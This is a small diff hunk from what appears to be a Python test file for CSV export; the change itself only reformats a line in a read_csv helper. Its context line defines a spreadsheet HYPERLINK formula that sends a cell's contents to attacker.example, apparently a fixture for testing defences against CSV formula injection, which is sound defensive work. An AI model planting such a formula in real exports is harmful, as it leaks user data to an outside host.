@@ -14,7 +14,9 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
 
 
 def read_csv(response) -> list[list[str]]:
-    body = b"".join(response.streaming_content) if response.streaming else response.content
+    body = (
+        b"".join(response.streaming_content) if response.streaming else response.content
+    )
     return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
 
 
